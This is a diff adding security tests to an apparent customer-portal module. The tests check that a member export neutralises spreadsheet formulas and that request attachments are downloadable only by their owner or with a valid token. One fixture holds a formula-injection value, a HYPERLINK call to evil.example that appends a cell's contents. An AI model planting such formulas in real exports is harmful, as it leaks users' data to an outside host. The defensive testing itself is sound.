@@ -70,6 +70,17 @@ class TestMemberPortal(KamPortalCase):
         sheet = openpyxl.load_workbook(io.BytesIO(self.url_open('/my/members/export').content)).active
         self.assertEqual([row[0] for row in sheet.iter_rows(min_row=2, values_only=True)], ["沈洁"])
 
+    def test_export_keeps_text_as_text(self):
+        formula = '=HYPERLINK("http://evil.example/?"&B2,"点我")'
+        self._create_member(formula, "13605710009", department="http://intranet.example")
+        self.authenticate(self.portal_a.login, self.portal_a.login)
+        response = self.url_open('/my/members/export')
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        row = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "13605710009")
+        self.assertEqual((row[0].data_type, row[0].value), ('s', formula), "text, not a formula")
+        self.assertEqual((row[3].value, row[3].hyperlink), ("http://intranet.example", None))
+        self.assertEqual(row[1].data_type, 's')
+
     def test_members_page_queries(self):
         self.authenticate(self.portal_a.login, self.portal_a.login)
         self.url_open('/my/members')
@@ -201,6 +212,55 @@ class TestServiceRequestPortal(KamPortalCase):
         response = self._post(f'/my/requests/{request.id}/rate', {'rating': 4, 'comment': "Fast"})
         self.assertEqual(request.rating_ids.filtered('consumed').rating, 4)
         self.assertIn("o_kam_request_rated", response.text)
+
+    def _chatter_files(self, request):
+        """The files of the work order's conversation as the portal chatter
+        gets them (with the access tokens of their download links)."""
+        result = self.make_jsonrpc_request('/mail/chatter_fetch', {
+            'thread_model': request._name, 'thread_id': request.id})
+        return [file for message in result['data']['mail.message']
+                for file in message['attachment_ids']]
+
+    def test_files_attached_in_the_portal_download_for_their_customer_only(self):
+        letter = b'%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF'
+        self.authenticate(self.portal_a.login, self.portal_a.login)
+        self._submit(self.type_fault, lines=[{'operation': 'number', 'number': 'X'}], files={
+            'attachments': ('letter.pdf', letter, 'application/pdf')})
+        request = self._requests()
+        attachment = self.env['ir.attachment'].search([
+            ('res_model', '=', request._name), ('res_id', '=', request.id)])
+        self.assertEqual(attachment.name, 'letter.pdf')
+        # the service desk answers in an internal note with a file of its own
+        note = request.message_post(
+            body="Line test report", message_type='comment', subtype_xmlid='mail.mt_note',
+            attachments=[('line_test.pdf', letter)])
+        internal = note.attachment_ids
+        url = f'/web/content/{attachment.id}?download=true'
+        # the customer who attached it finds it in the work order's conversation, and downloads it
+        files = self._chatter_files(request)
+        self.assertEqual([(f['id'], f['name']) for f in files], [(attachment.id, 'letter.pdf')])
+        response = self.url_open(f"{url}&access_token={files[0]['raw_access_token']}")
+        self.assertEqual((response.status_code, response.content), (200, letter))
+        response = self.url_open(url)
+        self.assertEqual((response.status_code, response.content), (200, letter))
+        self.assertEqual(self.url_open(f'/web/content/{internal.id}').status_code, 404,
+                         "internal notes stay internal")
+        # another customer does not, nor a clerk of the subsidiary (who does not read A's orders)
+        for user in (self.portal_b, self.portal_sub_a):
+            self.authenticate(user.login, user.login)
+            self.assertFalse(self._chatter_files(request))
+            response = self.url_open(url)
+            self.assertEqual(response.status_code, 404, user.login)
+            self.assertNotEqual(response.content, letter)
+        # the work order's own link opens its files, a wrong token does not
+        self.authenticate(None, None)
+        token = request._portal_ensure_token()
+        response = self.url_open(f'{url}&access_token={token}')
+        self.assertEqual((response.status_code, response.content), (200, letter))
+        self.assertEqual(self.url_open(f'{url}&access_token={token[::-1]}').status_code, 404)
+        self.assertEqual(self.url_open(f'/web/content/{internal.id}?access_token={token}').status_code,
+                         404)
+        self.assertEqual(self.url_open(url).status_code, 404)
 
     def test_requests_list_queries(self):
         self.authenticate(self.portal_a.login, self.portal_a.login)
